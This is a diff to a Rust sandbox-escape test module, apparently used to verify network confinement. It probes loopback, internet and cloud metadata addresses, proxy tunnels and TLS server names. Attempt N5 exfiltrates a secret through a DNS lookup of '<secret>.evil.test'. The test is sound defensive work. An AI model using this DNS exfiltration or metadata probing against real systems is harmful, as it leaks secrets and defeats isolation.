@@ -1,4 +1,4 @@
-//! N: the network. Addresses beyond loopback are tried only where we are apart from the machine's own network.
+//! N: the network. Attempts dial addresses beyond loopback only outside the machine's own network.
 
 use std::io::{self, Read, Write};
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
@@ -10,7 +10,7 @@ use crate::attempt::{Answer, Attempt, Evidence};
 use crate::tries::{NOTHING, name_of, outcome};
 use crate::world::World;
 
-/// The supervisor's address, if it answers.
+/// The longest wait for a peer's answer.
 const PATIENCE: Duration = Duration::from_secs(20);
 const PROXY: u16 = 3128;
 const TLS: u16 = 443;
@@ -30,12 +30,12 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
     Attempt {
         id: "N1b",
-        does: "dials a service on the host's loopback of the newer kind",
+        does: "dials a service on the host's IPv6 loopback",
         held_by: &["ECONNREFUSED", "EADDRNOTAVAIL", "EAFNOSUPPORT", "ENETUNREACH"],
         evidence: Evidence::NobodyCame,
         act: |world| match world.neighbour.port_6 {
             Some(port) => dial(world, Ipv6Addr::LOCALHOST.into(), port),
-            None => Answer::NotHere("the host has no such loopback".to_owned()),
+            None => Answer::NotHere("the host has no IPv6 loopback".to_owned()),
         },
     },
     Attempt {
@@ -61,14 +61,14 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
     Attempt {
         id: "N1f",
-        does: "dials an address of the internet",
+        does: "dials an internet address",
         held_by: &["ENETUNREACH"],
         evidence: Evidence::Inside,
         act: |world| dial(world, Ipv4Addr::new(203, 0, 113, 10).into(), TLS),
     },
     Attempt {
         id: "N1g",
-        does: "dials a cloud's metadata service by its newer address",
+        does: "dials a cloud's metadata service by its IPv6 address",
         held_by: &["ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT"],
         evidence: Evidence::Inside,
         act: |world| {
@@ -78,7 +78,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
     Attempt {
         id: "N1h",
-        does: "sends a datagram to a name server of the internet",
+        does: "sends a datagram to a name server on the internet",
         held_by: &["ENETUNREACH"],
         evidence: Evidence::Inside,
         act: |world| {
@@ -90,7 +90,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
     Attempt {
         id: "N6a",
-        does: "dials an abstract socket of the host",
+        does: "dials one of the host's abstract sockets",
         held_by: &["ECONNREFUSED"],
         evidence: Evidence::NobodyCame,
         act: |world| {
@@ -101,7 +101,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
     Attempt {
         id: "N6b",
-        does: "looks for interfaces of the host",
+        does: "looks for the host's network interfaces",
         held_by: &[NOTHING],
         evidence: Evidence::Inside,
         act: |_| {
@@ -115,7 +115,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     },
 ];
 
-/// Through the supervisor, in a world with its own outside: see `tests/suite/sandbox/network/outside.sh`.
+/// Through the supervisor, with a simulated outside world; see `tests/suite/sandbox/network/outside.sh`.
 pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
     Attempt {
         id: "N2a",
@@ -126,7 +126,7 @@ pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
     },
     Attempt {
         id: "N2b",
-        does: "names a host by TLS that is not on the list",
+        does: "asks by TLS for a host that is not on the list",
         held_by: &[ALERT],
         evidence: Evidence::NobodyCame,
         act: |world| apart_answer(world, || hello(b"denied.test")),
@@ -154,7 +154,7 @@ pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
     },
     Attempt {
         id: "N2e",
-        does: "asks the proxy for a page instead of a way",
+        does: "asks the proxy for a page instead of a tunnel",
         held_by: &["405", "400", FORBIDDEN],
         evidence: Evidence::NobodyCame,
         act: |world| {
@@ -166,7 +166,7 @@ pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
     },
     Attempt {
         id: "N2f",
-        does: "speaks TLS without a name",
+        does: "speaks TLS without a server name",
         held_by: &[ALERT],
         evidence: Evidence::NobodyCame,
         act: |world| apart_answer(world, || hello(b"")),
@@ -201,17 +201,17 @@ pub(crate) const ON_THE_WAY_OUT: &[Attempt] = &[
     },
     Attempt {
         id: "N5",
-        does: "tells a secret in a name that it looks up",
+        does: "leaks a secret in a name that it looks up",
         held_by: &[NO_SUCH_NAME],
         evidence: Evidence::NobodyCame,
         act: |world| apart_answer(world, || lookup(&format!("{}.evil.test", world.secret))),
     },
 ];
 
-/// Tries a name in every way in which a client can send a name.
+/// Tries a name in every way that a client can send one.
 pub fn smuggle(name: &str) -> Answer {
     let by_proxy = connect(&[name.as_bytes(), b":443"].concat());
-    // A DNS question cannot say a final dot: every name ends with it.
+    // A DNS question cannot contain a final dot, because every name in one ends with it.
     let by_question = lookup(if name.ends_with('.') { "denied.test" } else { name });
     let answers = [by_proxy, hello(name.as_bytes()), by_question];
     let is_held = |answer: &Answer| {
@@ -225,7 +225,7 @@ pub fn smuggle(name: &str) -> Answer {
     }
 }
 
-/// Does something that may send packets, unless they would go to the machine's network.
+/// Runs `act`, which may send packets, unless they would go to the machine's network.
 fn apart<T>(world: &World, act: impl FnOnce() -> io::Result<T>) -> Answer {
     match world.is_apart() {
         true => outcome(act(), "it was reached"),
@@ -249,7 +249,7 @@ fn dial(world: &World, address: IpAddr, port: u16) -> Answer {
     }
 }
 
-/// The answer of a peer on loopback to these bytes, until it hangs up or has said enough.
+/// Sends these bytes to a peer on loopback, and reads its answer until it hangs up or has sent enough.
 fn exchange(port: u16, bytes: &[u8]) -> io::Result<Vec<u8>> {
     let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
     stream.set_read_timeout(Some(PATIENCE))?;
@@ -277,17 +277,16 @@ fn proxy_answer(answer: io::Result<Vec<u8>>) -> Answer {
     };
     let line = String::from_utf8_lossy(&answer).into_owned();
     match line.split_whitespace().nth(1) {
-        Some("200") => Answer::done("the way is open"),
+        Some("200") => Answer::done("the tunnel is open"),
         Some(status) => Answer::refused(status),
         None => Answer::refused(format!("{line:?}")),
     }
 }
 
-/// Names the wanted host, as TLS begins.
+/// Starts a TLS handshake that asks for the host `name`.
 fn hello(name: &[u8]) -> Answer {
     match exchange(TLS, &client_hello(name)) {
-        // An alert, fatal, "access denied". A peer that understood us and refuses for another reason sends another
-        // alert.
+        // A fatal alert, "access denied". A peer that refuses for another reason sends another alert.
         Ok(answer) if answer.first() == Some(&0x15) && answer.ends_with(&[2, 49]) => {
             Answer::refused(ALERT)
         }
@@ -319,7 +318,7 @@ fn client_hello(name: &[u8]) -> Vec<u8> {
     [&[22, 3, 1][..], &sized(2, &message)].concat()
 }
 
-/// Asks for the address of a name.
+/// Looks up the address of a name.
 fn lookup(name: &str) -> Answer {
     let labels: Vec<u8> = name.split('.').flat_map(|label| sized(1, label.as_bytes())).collect();
     let query = [&[9, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &labels, &[0, 0, 1, 0, 1]].concat();
